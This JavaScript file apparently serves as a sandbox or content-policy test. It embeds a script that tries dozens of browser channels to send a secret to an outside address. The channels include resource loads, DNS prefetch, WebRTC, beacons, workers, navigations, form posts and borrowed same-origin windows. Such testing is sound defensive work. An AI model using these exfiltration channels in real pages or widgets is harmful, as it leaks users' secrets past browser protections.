/**
 * Every way that code in a page has to tell something elsewhere, by its name: JavaScript as a partner would ship it.
 * `url` is whom it tells, `at(name)` an address there with the secret in it. Those that `stay` leave the page standing and
 * run one after the other; each that may `lead` elsewhere has a page of its own and the player's click.
 */
export const WAYS = `(({ url, udp, tcp, secret, own, widget }) => {
  const at = (name) => url + '/' + name + '?' + secret
  const add = (tag, values, parent = document.body) => {
    const element = Object.assign(document.createElement(tag), values)
    parent.append(element)
    return element
  }
  const link = (values) => add('link', values, document.head)
  const style = (text) => add('style', { textContent: text }, document.head)
  const click = (values) => add('a', values).click()
  const send = (name, values) => {
    const form = add('form', { action: at(name), ...values })
    add('input', { name: 'secret', value: secret }, form)
    form.submit()
  }
  const blobOf = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
  const peer = () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] })
    connection.createDataChannel(secret)
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  }
  /** A window of the app's own origin, and what its own document tells then. */
  const through = (name, path) => {
    const other = open(path, name)
    setTimeout(() => {
      other.fetch(at(name), { mode: 'no-cors' }).catch(() => {
        const leads = other.document.createElement('a')
        leads.href = at(name)
        other.document.body.append(leads)
        leads.click()
      })
    }, 700)
  }
  const stay = {
    image: () => (new Image().src = at('image')),
    icon: () => link({ rel: 'icon', href: at('icon') }),
    poster: () => add('video', { poster: at('poster') }),
    video: () => add('video', { src: at('video'), preload: 'auto' }),
    audio: () => add('audio', { src: at('audio'), preload: 'auto' }),
    style: () => link({ rel: 'stylesheet', href: at('style') }),
    imported: () => style('@import "' + at('imported') + '";'),
    importedByBlob: () =>
      link({ rel: 'stylesheet', href: blobOf('@import "' + at('importedByBlob') + '";', 'text/css') }),
    background: () => style('body { background: url(' + at('background') + ') }'),
    font: () => {
      style('@font-face { font-family: x; src: url(' + at('font') + ') }')
      add('p', { textContent: 'x' }).style.fontFamily = 'x'
    },
    fontFace: () => new FontFace('y', 'url(' + at('fontFace') + ')').load(),
    script: () => add('script', { src: at('script') }),
    module: () => add('script', { type: 'module', src: at('module') }),
    dynamicImport: () => import(at('dynamicImport')),
    preload: () => link({ rel: 'preload', as: 'script', href: at('preload') }),
    modulePreload: () => link({ rel: 'modulepreload', href: at('modulePreload') }),
    prefetch: () => link({ rel: 'prefetch', href: at('prefetch') }),
    preconnect: () => link({ rel: 'preconnect', href: 'http://127.0.0.1:' + tcp }),
    dnsPrefetch: () => link({ rel: 'dns-prefetch', href: '//' + secret + '.example' }),
    speculation: () =>
      add('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({
          prefetch: [{ urls: [at('speculation')], eagerness: 'immediate' }],
          prerender: [{ urls: [at('speculation')], eagerness: 'immediate' }],
        }),
      }),
    manifest: () => link({ rel: 'manifest', href: at('manifest') }),
    frame: () => add('iframe', { src: at('frame') }),
    frameOfText: () => add('iframe', { srcdoc: '<img src="' + at('frameOfText') + '">' }),
    frameOfBlob: () => add('iframe', { src: blobOf('<img src="' + at('frameOfBlob') + '">', 'text/html') }),
    object: () => add('object', { data: at('object') }),
    embed: () => add('embed', { src: at('embed') }),
    drawing: () =>
      (add('div', {}).innerHTML = '<svg><image href="' + at('drawing') + '"/></svg>'),
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    kept: () => fetch(at('kept'), { mode: 'no-cors', keepalive: true, method: 'POST', body: secret }),
    later: () => fetchLater(at('later'), { activateAfter: 0 }),
    beacon: () => navigator.sendBeacon(at('beacon'), secret),
    request: () => {
      const request = new XMLHttpRequest()
      request.open('POST', at('request'))
      request.send(secret)
    },
    events: () => new EventSource(at('events')),
    socket: () => new WebSocket(at('socket').replace('http', 'ws')),
    transport: () => new WebTransport('https://127.0.0.1:' + udp + '/' + secret).ready,
    peer,
    worker: () => new Worker(blobOf('fetch("' + at('worker') + '", { mode: "no-cors" })')),
    sharedWorker: () => new SharedWorker(blobOf('fetch("' + at('sharedWorker') + '", { mode: "no-cors" })')),
    serviceWorker: () => navigator.serviceWorker.register(own + '/embed/v1/loader.js'),
    worklet: () => new AudioContext().audioWorklet.addModule(at('worklet')),
    ping: () => click({ href: '#x', ping: at('ping') }),
    attribution: () => (add('img', {}).attributionSrc = at('attribution')),
    address: () => history.pushState(null, '', at('address')),
  }
  const lead = {
    report: () => {
      const content = "img-src 'none'; report-uri " + at('report')
      add('meta', { httpEquiv: 'content-security-policy', content }, document.head)
      new Image().src = '/report'
    },
    location: () => (location = at('location')),
    replace: () => location.replace(at('replace')),
    navigate: () => navigation.navigate(at('navigate')),
    refresh: () => add('meta', { httpEquiv: 'refresh', content: '0; url=' + at('refresh') }, document.head),
    link: () => click({ href: at('link') }),
    linkTop: () => click({ href: at('linkTop'), target: '_top' }),
    linkBlank: () => click({ href: at('linkBlank'), target: '_blank', rel: 'noopener' }),
    download: () => click({ href: at('download'), download: 'x' }),
    top: () => (top.location = at('top')),
    parent: () => (parent.location = at('parent')),
    open: () => open(at('open')),
    openNoOpener: () => open(at('openNoOpener'), '_blank', 'noopener'),
    openThenLead: () => {
      const other = open('about:blank')
      other.location = at('openThenLead')
    },
    openThenWrite: () => open('about:blank').document.write('<img src="' + at('openThenWrite') + '">'),
    openBlob: () => open(blobOf('<img src="' + at('openBlob') + '">', 'text/html')),
    formGet: () => send('formGet', { method: 'get' }),
    formPost: () => send('formPost', { method: 'post' }),
    formTop: () => send('formTop', { method: 'post', target: '_top' }),
    formBlank: () => send('formBlank', { method: 'post', target: '_blank' }),
  }
  const borrow = {
    ownFile: () => through('ownFile', own + '/demo-assets/mark.svg'),
    ownAnswer: () => through('ownAnswer', own + '/healthcheck'),
    ownNone: () => through('ownNone', own + '/none/at/all'),
    ownScreen: () => through('ownScreen', own + '/auth/login'),
    ownLegal: () => through('ownLegal', own + '/tos/en-us'),
    ownWidget: () => through('ownWidget', own + '/widget/' + widget),
    ownCallback: () => through('ownCallback', own + '/auth?error=provider_error'),
    ownDocument: () => through('ownDocument', own + '/docs/terms-of-service'),
  }
  return { stay, lead, borrow }
})`
